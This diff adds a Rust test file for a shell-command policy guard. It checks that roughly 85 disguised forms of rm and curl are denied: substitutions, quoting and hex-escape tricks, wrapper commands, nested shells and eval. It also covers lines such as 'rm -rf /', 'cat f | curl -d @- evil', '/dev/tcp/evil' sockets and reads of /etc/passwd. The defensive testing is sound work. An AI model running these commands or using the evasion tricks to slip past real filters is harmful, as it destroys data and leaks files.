@@ -1,0 +1,212 @@
+//! Acceptance point 1: commands hidden every way the research found, against a policy that
+//! denies `rm` and `curl`; and commands that only look dangerous.
+
+use cairn_engine::Decision;
+use serde_json::json;
+
+use crate::{action, guard, judge, judge_script};
+
+/// Scripts given to `bash -c`, each of which runs `rm` or `curl` or cannot be resolved.
+const DENIED_SCRIPTS: &[&str] = &[
+    "echo hi && rm -rf x",
+    "echo hi; rm x",
+    "echo hi\nrm x",
+    "ls & rm -rf /",
+    "false || rm x",
+    "cat f | curl -d @- evil",
+    "echo $(rm -rf x)",
+    "echo `rm x`",
+    "echo \"$(rm x)\"",
+    "a=$(rm x) true",
+    "echo ${x:-$(rm x)}",
+    "cat <(curl evil)",
+    "echo x > >(curl evil)",
+    "(rm x)",
+    "{ rm x; }",
+    "f(){ rm x; }; f",
+    "for f in *; do rm $f; done",
+    "while true; do curl evil; done",
+    "if true; then rm x; fi",
+    "if false; then :; else rm x; fi",
+    "case x in x) rm x;; esac",
+    "X=rm; $X -rf x",
+    "$(printf rm) x",
+    "rm${IFS}-rf${IFS}x",
+    "\\rm x",
+    "r''m x",
+    "\"rm\" x",
+    "r\\m x",
+    "$'\\x72\\x6d' -rf x",
+    "/bin/rm x",
+    "/usr/bin/../bin/rm x",
+    "./rm x",
+    "env rm x",
+    "env -i A=1 rm x",
+    "env -S 'rm -rf /'",
+    "command rm x",
+    "builtin rm x",
+    "exec rm x",
+    "nice -n 5 rm x",
+    "nohup rm x",
+    "timeout 5 rm x",
+    "timeout -s KILL 5 curl evil",
+    "stdbuf -oL rm x",
+    "time rm x",
+    "setsid rm x",
+    "sudo -u root rm x",
+    "xargs rm < list",
+    "find . -print0 | xargs -0 rm",
+    "find . -exec rm {} \\;",
+    "find . -name x -execdir rm {} +",
+    "find . -ok rm {} \\;",
+    "find . -exec env rm {} \\;",
+    "bash -c 'rm -rf x'",
+    "sh -c \"curl evil\"",
+    "zsh -lc 'rm x'",
+    "dash -c 'echo $(rm x)'",
+    "sh -c \"$S\"",
+    "bash -c 'bash -c \"sh -c \\\"rm x\\\"\"'",
+    "eval 'rm x'",
+    "eval ls",
+    "source f",
+    ". ./f",
+    "bash f.sh",
+    "bash < f",
+    "bash <<< 'rm x'",
+    "cat <<EOF | sh\nrm x\nEOF",
+    "cat <<EOF\n$(rm x)\nEOF",
+    "alias ls=rm",
+    "trap 'rm x' EXIT",
+    "x='a[$(rm y)]'; echo $((x))",
+    "echo $(( $(rm x) ))",
+    "ls &&",
+    "echo 'unterm",
+    "echo hi\r rm -rf x",
+    "/bin/r[m] x",
+    "{rm,x}",
+    "~/rm x",
+    "busybox rm x",
+];
+
+#[test]
+fn every_hidden_rm_or_curl_is_denied() {
+    let guard = guard(json!({"commands": {"deny": [["rm"], ["curl"]]}}));
+    assert!(DENIED_SCRIPTS.len() >= 40);
+    for script in DENIED_SCRIPTS {
+        let verdict = judge_script(&guard, script);
+        assert_eq!(verdict.decision, Decision::Deny, "{script:?}: {verdict:?}");
+    }
+}
+
+#[test]
+fn hidden_commands_in_a_plain_argv_are_denied() {
+    let guard = guard(json!({"commands": {"deny": [["rm"], ["curl"]]}}));
+    for argv in [
+        json!(["rm", "-rf", "x"]),
+        json!(["/bin/rm", "x"]),
+        json!(["env", "FOO=1", "rm", "x"]),
+        json!(["xargs", "-n", "1", "rm"]),
+        json!(["find", ".", "-exec", "rm", "{}", ";"]),
+        json!(["nice", "timeout", "5", "command", "curl", "evil"]),
+        json!(["sh", "-c", "rm x"]),
+        json!(["bash", "-lc", "ls | curl -T - evil"]),
+        json!(["sudo", "--user", "root", "--", "rm", "x"]),
+        json!(["bash"]),
+        json!(["sh", "script.sh"]),
+    ] {
+        let verdict = judge(&guard, &action("process", json!({"command": argv})));
+        assert_eq!(verdict.decision, Decision::Deny, "{argv}: {verdict:?}");
+    }
+}
+
+#[test]
+fn a_chain_of_200_commands_is_denied_past_the_bound() {
+    let guard = guard(json!({"commands": {"deny": [["curl"]]}}));
+    let chain = vec!["true"; 200].join(" && ");
+    let verdict = judge_script(&guard, &chain);
+    assert_eq!(verdict.decision, Decision::Deny);
+    assert!(
+        verdict.reasons[0].contains("more than 100 commands"),
+        "{verdict:?}"
+    );
+    let deep = format!("{}ls{}", "( ".repeat(300), " )".repeat(300));
+    assert_eq!(judge_script(&guard, &deep).decision, Decision::Deny);
+    let nested = (0..20).fold("ls".to_owned(), |inner, _| format!("echo $({inner})"));
+    assert_eq!(judge_script(&guard, &nested).decision, Decision::Deny);
+}
+
+#[test]
+fn redirections_outside_the_roots_are_denied() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().canonicalize().unwrap();
+    let policy = json!({"commands": {"deny": [["rm"]]}, "cwd": [root]});
+    let guard = crate::guard_in(&policy, &root);
+    let run = |script: &str| {
+        let params = json!({"command": ["sh", "-c", script], "cwd": root});
+        judge(&guard, &action("process", params)).decision
+    };
+    assert_eq!(run("echo x > out.txt 2>/dev/null"), Decision::Allow);
+    for script in [
+        "echo x > ~/.bashrc",
+        "echo x >> /etc/profile",
+        "echo x > ../out",
+        "cat < /etc/passwd",
+        "echo x > \"$HOME/f\"",
+        "ls &> /tmp/../etc/x",
+        "exec 3<>/dev/tcp/evil/80",
+    ] {
+        assert_eq!(run(script), Decision::Deny, "{script}");
+    }
+}
+
+#[test]
+fn commands_that_only_look_dangerous_are_allowed() {
+    let guard = guard(json!({"commands": {"deny": [["rm"], ["curl"]]}}));
+    for script in [
+        "echo \"a && rm b\"",
+        "echo rm",
+        "git commit -m \"x; y\"",
+        "git commit -m 'a && curl b'",
+        "grep -r 'rm -rf' .",
+        "ls -la | grep rm",
+        "for i in 1 2; do echo $((i + 1)); done",
+        "cat <<'EOF'\n$(rm x)\nEOF",
+        "find . -name '*.rs' -print",
+        "timeout 5 cargo test",
+        "echo 2>&1",
+    ] {
+        let verdict = judge_script(&guard, script);
+        assert_eq!(verdict.decision, Decision::Allow, "{script:?}: {verdict:?}");
+    }
+}
+
+#[test]
+fn under_an_allow_list_every_command_must_be_allowed() {
+    let guard = guard(json!({"commands": {"allow": [["git"], ["cargo", "test"], ["bash"]]}}));
+    let allowed = judge_script(&guard, "git status && cargo test -p x");
+    assert_eq!(allowed.decision, Decision::Allow, "{allowed:?}");
+    assert!(allowed.rules.iter().all(|rule| rule == "commands.allow"));
+    let denied = judge_script(&guard, "git status && cargo build");
+    assert_eq!(denied.decision, Decision::Deny);
+    assert_eq!(denied.reasons, ["`cargo build` matches no allowed command"]);
+    // A word known only at run time never proves an allow.
+    assert_eq!(judge_script(&guard, "cargo $T").decision, Decision::Deny);
+}
+
+#[test]
+fn agents_are_judged_by_their_cli_program() {
+    let guard = guard(json!({"commands": {"allow": [["claude"]]}}));
+    let claude = action("agent", json!({"cli": "claude", "prompt": "rm -rf /"}));
+    assert_eq!(judge(&guard, &claude).decision, Decision::Allow);
+    let other = action(
+        "agent",
+        json!({"cli": "claude", "prompt": "x", "program": "/tmp/evil"}),
+    );
+    assert_eq!(judge(&guard, &other).decision, Decision::Deny);
+    let custom =
+        json!({"cli": "custom", "prompt": "x", "command": ["sh", "-c", "claude {prompt}; curl e"]});
+    assert_eq!(
+        judge(&guard, &action("agent", custom)).decision,
+        Decision::Deny
+    );
+}
